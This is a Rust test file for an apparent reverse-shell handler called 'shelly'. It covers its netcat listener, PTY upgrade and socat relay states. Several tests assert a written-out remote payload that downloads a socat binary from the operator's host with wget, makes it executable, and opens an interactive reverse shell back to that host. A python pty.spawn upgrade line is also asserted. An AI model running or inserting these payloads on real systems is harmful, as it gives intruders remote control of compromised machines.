use shelly::config::load_config;
use shelly::shell::{
    classify_line, forward_step, payload, primary_args, pty_command, relay_args, relay_outcome,
    ForwardAction, ForwardEvent, LineKind, Netcat, RelayAction, SessionRelay, SessionState,
    Socat, RECONNECT_GRACE_MS,
};

fn session(port: u16, config: &str) -> SessionRelay {
    let config = load_config(config).expect("valid configuration");
    Netcat::new(port, config, "10.0.0.5").run()
}

fn interactive(port: u16, config: &str) -> SessionRelay {
    let mut relay = session(port, config);
    assert_eq!(relay.action(), RelayAction::SpawnPrimary);
    assert_eq!(relay.state(), SessionState::Connecting);
    assert_eq!(relay.on_result(true), RelayAction::ReadLine);
    assert_eq!(relay.state(), SessionState::Interactive);
    relay
}

const CONFIG: &str = "{\"shelly\": {\"default_http_svr\": 8000}}";

#[test]
fn quit_closes_the_primary_input_at_once() {
    let mut relay = interactive(4444, CONFIG);
    assert_eq!(relay.on_line(Some(":quit\n")), RelayAction::ClosePrimaryInput);
    assert_eq!(relay.state(), SessionState::Closed);
    assert_eq!(relay.on_line(Some("id\n")), RelayAction::ClosePrimaryInput);
    assert_eq!(relay.on_result(true), RelayAction::WaitPrimary);
    assert_eq!(relay.on_line(Some("id\n")), RelayAction::WaitPrimary);
    assert_eq!(relay.state(), SessionState::Closed);
    assert!(!relay.succeeded());
    assert_eq!(relay.on_result(true), RelayAction::Finish);
    assert!(relay.succeeded());
    assert_eq!(relay.on_result(false), RelayAction::Finish);
    assert!(relay.succeeded());
}

#[test]
fn an_unknown_command_is_reported_and_the_session_goes_on() {
    let mut relay = interactive(4444, CONFIG);
    assert_eq!(relay.on_line(Some(":bogus\n")), RelayAction::Diagnose);
    assert_eq!(relay.text(), "unknown command: :bogus");
    assert_eq!(relay.state(), SessionState::Interactive);
    assert_eq!(relay.on_result(true), RelayAction::ReadLine);
    assert_eq!(relay.on_line(Some("whoami\n")), RelayAction::WriteLine);
    assert_eq!(relay.text(), "whoami\n");
    assert_eq!(relay.on_result(true), RelayAction::ReadLine);
    assert_eq!(relay.state(), SessionState::Interactive);
}

#[test]
fn lines_are_forwarded_with_one_line_feed() {
    let mut relay = interactive(4444, CONFIG);
    assert_eq!(relay.on_line(Some("ls -la\n\n\n")), RelayAction::WriteLine);
    assert_eq!(relay.text(), "ls -la\n");
    relay.on_result(true);
    assert_eq!(relay.on_line(Some("\n")), RelayAction::WriteLine);
    assert_eq!(relay.text(), "\n");
    relay.on_result(true);
    assert_eq!(relay.on_line(Some("echo hi\r\n")), RelayAction::WriteLine);
    assert_eq!(relay.text(), "echo hi\r\n");
    relay.on_result(true);
    assert_eq!(relay.on_line(Some(" :quit\n")), RelayAction::WriteLine);
    assert_eq!(relay.text(), " :quit\n");
}

#[test]
fn commands_are_matched_exactly() {
    assert_eq!(classify_line(":upgrade\n"), (LineKind::Upgrade, ":upgrade".to_string()));
    assert_eq!(classify_line(":socat"), (LineKind::Socat, ":socat".to_string()));
    assert_eq!(classify_line(":quit\n\n"), (LineKind::Quit, ":quit".to_string()));
    assert_eq!(classify_line(":Quit\n"), (LineKind::Unknown, ":Quit".to_string()));
    assert_eq!(classify_line(":quit \n"), (LineKind::Unknown, ":quit ".to_string()));
    assert_eq!(classify_line(":quit\r\n"), (LineKind::Unknown, ":quit\r".to_string()));
    assert_eq!(classify_line(":\n"), (LineKind::Unknown, ":".to_string()));
    assert_eq!(classify_line("quit\n"), (LineKind::Forward, "quit".to_string()));
    assert_eq!(classify_line(""), (LineKind::Forward, String::new()));
    assert_eq!(classify_line("\n"), (LineKind::Forward, String::new()));
}

#[test]
fn end_of_input_closes_the_session() {
    let mut relay = interactive(4444, CONFIG);
    assert_eq!(relay.on_line(None), RelayAction::WaitPrimary);
    assert_eq!(relay.state(), SessionState::Closed);
    assert_eq!(relay.on_result(false), RelayAction::Finish);
    assert!(!relay.succeeded());
}

#[test]
fn a_primary_listener_that_does_not_start_ends_the_session() {
    let mut relay = session(4444, CONFIG);
    assert_eq!(relay.on_line(Some(":quit\n")), RelayAction::SpawnPrimary);
    assert_eq!(relay.on_result(false), RelayAction::Finish);
    assert_eq!(relay.state(), SessionState::Closed);
    assert!(!relay.succeeded());
}

#[test]
fn upgrade_enters_raw_mode_and_restores_it() {
    let mut relay = interactive(4444, CONFIG);
    assert_eq!(relay.on_line(Some(":upgrade\n")), RelayAction::Announce);
    assert_eq!(relay.state(), SessionState::UpgradingPty);
    assert_eq!(relay.on_result(true), RelayAction::SendPtyCommand);
    assert_eq!(relay.on_result(true), RelayAction::EnterRaw);
    assert_eq!(relay.on_result(true), RelayAction::ForwardPrimary);
    assert_eq!(relay.on_line(Some(":quit\n")), RelayAction::ForwardPrimary);
    assert_eq!(relay.state(), SessionState::UpgradingPty);
    assert_eq!(relay.on_result(true), RelayAction::RestoreMode);
    assert_eq!(relay.on_result(true), RelayAction::WaitPrimary);
    assert_eq!(relay.state(), SessionState::Closed);
    assert_eq!(relay.on_result(true), RelayAction::Finish);
    assert!(relay.succeeded());
}

#[test]
fn a_failed_forward_still_restores_the_terminal() {
    let mut relay = interactive(4444, CONFIG);
    relay.on_line(Some(":upgrade"));
    relay.on_result(true);
    relay.on_result(true);
    assert_eq!(relay.on_result(true), RelayAction::ForwardPrimary);
    assert_eq!(relay.on_result(false), RelayAction::RestoreMode);
    assert_eq!(relay.on_result(false), RelayAction::WaitPrimary);
    assert_eq!(relay.on_result(true), RelayAction::Finish);
    assert!(!relay.succeeded());
}

#[test]
fn a_terminal_that_cannot_enter_raw_mode_ends_the_stage() {
    let mut relay = interactive(4444, CONFIG);
    relay.on_line(Some(":upgrade"));
    relay.on_result(true);
    assert_eq!(relay.on_result(true), RelayAction::EnterRaw);
    assert_eq!(relay.on_result(false), RelayAction::WaitPrimary);
    assert_eq!(relay.on_result(true), RelayAction::Finish);
    assert!(!relay.succeeded());
}

#[test]
fn socat_moves_the_session_onto_the_relay() {
    let mut relay = interactive(4444, CONFIG);
    assert_eq!(relay.relay_port(), Some(4445));
    assert_eq!(relay.on_line(Some(":socat\n")), RelayAction::ResolveToolbox);
    assert_eq!(relay.state(), SessionState::UpgradingRaw);
    assert_eq!(
        relay.text(),
        "wget -q http://10.0.0.5:8000/socatx64.bin -O /tmp/socat; chmod +x /tmp/socat; /tmp/socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.5:4445\n"
    );
    assert_eq!(relay.on_result(false), RelayAction::SpawnRelay);
    assert_eq!(relay.on_result(true), RelayAction::SendPayload);
    assert_eq!(relay.on_result(true), RelayAction::ClosePrimaryInput);
    assert_eq!(relay.on_result(true), RelayAction::Wait);
    assert_eq!(RECONNECT_GRACE_MS, 200);
    assert_eq!(relay.on_result(true), RelayAction::EnterRaw);
    assert_eq!(relay.on_result(true), RelayAction::ForwardRelay);
    assert_eq!(relay.on_result(true), RelayAction::RestoreMode);
    assert_eq!(relay.on_result(true), RelayAction::ReleaseRelay);
    assert_eq!(relay.state(), SessionState::UpgradingRaw);
    assert_eq!(relay.on_result(true), RelayAction::WaitPrimary);
    assert_eq!(relay.state(), SessionState::Closed);
    assert_eq!(relay.on_result(true), RelayAction::Finish);
    assert!(relay.succeeded());
}

#[test]
fn a_relay_that_does_not_start_leaves_the_session_interactive() {
    let mut relay = interactive(4444, CONFIG);
    relay.on_line(Some(":socat\n"));
    assert_eq!(relay.on_result(true), RelayAction::SpawnRelay);
    assert_eq!(relay.on_result(false), RelayAction::ReadLine);
    assert_eq!(relay.state(), SessionState::Interactive);
    assert_eq!(relay.on_line(Some("id\n")), RelayAction::WriteLine);
    relay.on_result(true);
    relay.on_line(Some(":quit"));
    relay.on_result(true);
    assert_eq!(relay.on_result(true), RelayAction::Finish);
    assert!(relay.succeeded());
}

#[test]
fn a_relay_that_was_started_is_released_on_every_path() {
    let mut relay = interactive(4444, CONFIG);
    relay.on_line(Some(":socat\n"));
    relay.on_result(true);
    assert_eq!(relay.on_result(true), RelayAction::SendPayload);
    assert_eq!(relay.on_result(false), RelayAction::ReleaseRelay);
    assert_eq!(relay.on_result(true), RelayAction::WaitPrimary);

    let mut relay = interactive(4444, CONFIG);
    relay.on_line(Some(":socat\n"));
    relay.on_result(true);
    relay.on_result(true);
    relay.on_result(true);
    relay.on_result(true);
    assert_eq!(relay.on_result(true), RelayAction::EnterRaw);
    assert_eq!(relay.on_result(false), RelayAction::ReleaseRelay);
    assert_eq!(relay.on_result(true), RelayAction::WaitPrimary);
    assert_eq!(relay.on_result(true), RelayAction::Finish);
    assert!(!relay.succeeded());
}

#[test]
fn socat_without_a_port_is_reported() {
    let mut relay = interactive(65535, CONFIG);
    assert_eq!(relay.relay_port(), None);
    assert_eq!(relay.on_line(Some(":socat\n")), RelayAction::Diagnose);
    assert_eq!(
        relay.text(),
        "raw relay unavailable: no delivery port or no port above the listener"
    );
    assert_eq!(relay.on_result(true), RelayAction::ReadLine);

    let mut relay = interactive(4444, "{}");
    assert_eq!(relay.on_line(Some(":socat\n")), RelayAction::Diagnose);
    let mut relay = interactive(4444, "{\"shelly\": {\"default_http_svr\": 70000}}");
    assert_eq!(relay.on_line(Some(":socat\n")), RelayAction::Diagnose);
    let mut relay = interactive(4444, "{\"shelly\": {\"default_http_svr\": \"8000\"}}");
    assert_eq!(relay.on_line(Some(":socat\n")), RelayAction::Diagnose);
}

#[test]
fn a_failed_write_closes_the_session() {
    let mut relay = interactive(4444, CONFIG);
    assert_eq!(relay.on_line(Some("id\n")), RelayAction::WriteLine);
    assert_eq!(relay.on_result(false), RelayAction::WaitPrimary);
    assert_eq!(relay.on_result(true), RelayAction::Finish);
    assert!(!relay.succeeded());
}

#[test]
fn the_listeners_are_started_with_these_arguments() {
    assert_eq!(primary_args(4444), vec!["-lnvp".to_string(), "4444".to_string()]);
    assert_eq!(
        relay_args("/dev/pts/3", 4445),
        vec!["file:/dev/pts/3,raw,echo=0".to_string(), "tcp-listen:4445,reuseaddr,fork".to_string()]
    );
    let socat = Socat::new(9000);
    assert_eq!(socat.port, 9000);
    assert_eq!(
        socat.run("/dev/tty1"),
        vec!["file:/dev/tty1,raw,echo=0".to_string(), "tcp-listen:9000,reuseaddr,fork".to_string()]
    );
    assert_eq!(relay_outcome(true), Ok(()));
    assert_eq!(relay_outcome(false), Err(()));
}

#[test]
fn the_remote_commands_are_these() {
    assert_eq!(pty_command(), "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n");
    assert_eq!(
        payload("192.168.1.2", 80, 65535),
        "wget -q http://192.168.1.2:80/socatx64.bin -O /tmp/socat; chmod +x /tmp/socat; /tmp/socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.168.1.2:65535\n"
    );
}

#[test]
fn netcat_keeps_what_it_was_made_with() {
    let config = load_config(CONFIG).expect("valid configuration");
    let netcat = Netcat::new(1234, config.clone(), "host");
    assert_eq!(netcat.port, 1234);
    assert_eq!(netcat.ip, "host");
    assert_eq!(netcat.config, config);
}

#[test]
fn forwarding_ends_without_error_when_either_side_closes() {
    assert_eq!(forward_step(ForwardEvent::Read { count: 1 }), ForwardAction::Write);
    assert_eq!(forward_step(ForwardEvent::Read { count: 4096 }), ForwardAction::Write);
    assert_eq!(forward_step(ForwardEvent::Written), ForwardAction::Read);
    assert_eq!(forward_step(ForwardEvent::Read { count: 0 }), ForwardAction::Stop);
    assert_eq!(forward_step(ForwardEvent::WriteFailed), ForwardAction::Stop);
    assert_eq!(forward_step(ForwardEvent::ReadFailed), ForwardAction::Fail);
}
